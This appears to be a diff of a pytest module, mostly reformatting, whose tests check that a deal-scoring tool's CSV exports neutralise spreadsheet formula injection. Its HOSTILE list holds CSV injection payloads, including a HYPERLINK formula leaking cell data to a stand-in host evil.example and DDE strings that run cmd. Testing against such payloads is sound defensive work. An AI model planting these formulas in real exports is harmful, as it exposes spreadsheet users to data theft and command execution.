@@ -1,5 +1,6 @@
 """CSV outputs neutralise cells a spreadsheet would evaluate (OWASP CSV injection rule), whatever the deal
 data."""
+
 from __future__ import annotations
 
 import csv
@@ -9,8 +10,14 @@ import pytest
 
 from handrail.generators.data.csv_cells import safe_cell
 
-HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+cmd|' /C calc'!A0",
-           "-2+3+cmd|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+9)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+]
 
 
 @pytest.mark.parametrize("value", HOSTILE)
@@ -43,26 +50,47 @@ def _cells(text):
 def test_score_csv_neutralises_deal_names(run_cli, tmp_path, example_spec):
     export = tmp_path / "deals.csv"
     _hostile_export(export)
-    code, _, err = run_cli("score", str(export), "--spec", str(example_spec), "--format", "csv",
-                           "--out", str(tmp_path / "scores.csv"))
+    code, _, err = run_cli(
+        "score",
+        str(export),
+        "--spec",
+        str(example_spec),
+        "--format",
+        "csv",
+        "--out",
+        str(tmp_path / "scores.csv"),
+    )
     assert code == 0, err
     out = (tmp_path / "scores.csv").read_bytes().decode()  # a tab and a carriage return survive as written
     cells = _cells(out)
-    assert not [c for c in cells if c.startswith(("=", "+", "@", "\t", "\r")) or
-                (c.startswith("-") and c != "-12.5")]
+    assert not [
+        c for c in cells if c.startswith(("=", "+", "@", "\t", "\r")) or (c.startswith("-") and c != "-12.5")
+    ]
     names = [row["name"] for row in csv.DictReader(io.StringIO(out, newline=""))]
-    assert names[:len(HOSTILE)] == ["'" + v for v in HOSTILE]  # the value is kept, behind the quote
+    assert names[: len(HOSTILE)] == ["'" + v for v in HOSTILE]  # the value is kept, behind the quote
     assert names[-1] == "-12.5"  # a plain number stays a number
 
 
 def test_audit_csv_neutralises_owners_and_ids(run_cli, tmp_path, example_spec):
     export = tmp_path / "deals.csv"
     _hostile_export(export)
-    code, _, err = run_cli("audit", "--from", str(export), "--spec", str(example_spec), "--format", "csv",
-                           "--as-of", "2026-02-01", "--out", str(tmp_path / "audit.csv"))
+    code, _, err = run_cli(
+        "audit",
+        "--from",
+        str(export),
+        "--spec",
+        str(example_spec),
+        "--format",
+        "csv",
+        "--as-of",
+        "2026-02-01",
+        "--out",
+        str(tmp_path / "audit.csv"),
+    )
     assert code == 0, err
     out = (tmp_path / "audit.csv").read_bytes().decode()
-    groups = [row["group"] for row in csv.DictReader(io.StringIO(out, newline=""))
-              if row["section"] == "owner"]
+    groups = [
+        row["group"] for row in csv.DictReader(io.StringIO(out, newline="")) if row["section"] == "owner"
+    ]
     assert "'" + HOSTILE[0] in groups
     assert not [c for c in _cells(out) if c.startswith(("=", "+", "@", "\t", "\r"))]
